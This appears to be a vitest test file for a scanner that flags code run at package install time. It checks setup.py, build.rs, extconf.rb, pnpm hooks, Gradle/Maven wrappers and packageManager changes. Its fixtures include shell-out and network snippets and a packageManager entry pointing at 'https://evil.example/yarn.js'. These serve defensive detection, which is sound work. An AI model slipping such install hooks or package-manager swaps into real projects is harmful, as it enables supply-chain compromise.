import { describe, expect, it } from "vitest";
import { findInstallPrograms } from "../../../src/policy/findings/install-program.ts";
import { adding, changed } from "./patch-of.ts";

function tiersOf(path: string, ...lines: readonly string[]): readonly string[] {
  return findInstallPrograms(changed(path, ...lines.map(marked))).map(({ tier }) => tier);
}

/** Lines may begin with spaces: only `-` says that one is removed. */
function marked(line: string): string {
  return line.startsWith("-") || line.startsWith("+") ? line : `+${line}`;
}

describe("programs that run while installing", () => {
  it.each([
    ["build.rs", "fn main() {}"],
    ["crates/a/build.rs", '    println!("cargo:rerun-if-changed=a.h");'],
    ["setup.py", "version = read_version()"],
    ["setup.py", "class Build(build_ext):"],
    ["ext/a/extconf.rb", 'create_makefile("a")'],
    ["binding.gyp", '{ "targets": [] }'],
  ])("it weighs high in %s: %s", (path, line) => {
    expect(tiersOf(path, line)).toEqual(["high"]);
  });

  it.each([
    ["setup.py", "os.system('x')"],
    ["setup.py", "import subprocess"],
    ["setup.py", 'exec(open("a").read())'],
    ["build.rs", '    Command::new("sh").arg("-c");'],
    ["build.rs", '    let s = TcpStream::connect("a:1");'],
    ["ext/extconf.rb", "system('make')"],
    ["ext/extconf.rb", "x = `uname -a`"],
    ["hatch_build.py", "urllib.request.urlopen(url)"],
    [".pnpmfile.cjs", 'require("child_process")'],
  ])("it weighs critical in %s, which reaches out: %s", (path, line) => {
    expect(tiersOf(path, line)).toEqual(["critical"]);
  });

  it("reads a docstring's mark as no excuse", () => {
    expect(tiersOf("setup.py", '"""a"""; os.system("x")')).toEqual(["critical"]);
  });

  it("leaves alone a setup.py that only says data", () => {
    const text = [
      "from setuptools import setup, find_packages",
      "",
      "setup(",
      '    name="a",',
      "    version='1.2.3',",
      '    python_requires=">=3.9",',
      "    packages=find_packages(exclude=['tests']),",
      '    install_requires=["a>=1", "b"],',
      "    zip_safe=False,",
      '    extras_require={"x": ["y"]},',
      ")",
      "# done",
    ].join("\n");
    expect(findInstallPrograms(adding("setup.py", text))).toEqual([]);
  });

  it.each([
    ["src/build.rs.md", "Command::new"],
    ["src/setup.ts", "fetch(a)"],
    ["build.rs", "-fn main() {}"],
    ["build.rs", "// fn main() {}"],
    [".yarnrc.yml", "nodeLinker: node-modules"],
    ["package.json", '  "version": "1.0.0",'],
  ])("it is quiet in %s about: %s", (path, line) => {
    expect(tiersOf(path, line)).toEqual([]);
  });
});

describe("package managers", () => {
  it.each([
    [".yarn/releases/yarn-4.0.0.cjs", "x"],
    [".pnp.cjs", "x"],
    ["gradlew", "x"],
    ["sub/mvnw.cmd", "x"],
    [".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs"],
  ])("it weighs critical: %s", (path, line) => {
    expect(tiersOf(path, line)).toEqual(["critical"]);
  });

  const hash = `sha512.${"a".repeat(128)}`;
  const rows: readonly (readonly [string, string | null, string | null, readonly string[]])[] = [
    ["another name", "pnpm@9.1.0", "yarn@4.0.0", ["critical"]],
    ["a first one", null, "pnpm@9.1.0", ["critical"]],
    ["an address", "yarn@4.0.0", "yarn@https://evil.example/yarn.js", ["critical"]],
    ["a lost hash", `pnpm@9.1.0+${hash}`, "pnpm@9.1.0", ["critical"]],
    ["another version", "pnpm@9.1.0", "pnpm@9.2.0", ["high"]],
    ["another hash", `pnpm@9.1.0+${hash}`, "pnpm@9.1.0+sha512.bb", ["high"]],
    ["none any more", "pnpm@9.1.0", null, []],
    ["the same at another place", "pnpm@9.1.0", "pnpm@9.1.0", []],
  ];
  it.each(rows)("it judges %s in package.json", (...[, was, is, tiers]) => {
    const line = (mark: string, text: string | null): readonly string[] =>
      text === null ? [] : [`${mark}  "packageManager": "${text}",`];
    expect(tiersOf("package.json", ...line("-", was), ...line("+", is))).toEqual(tiers);
  });
});
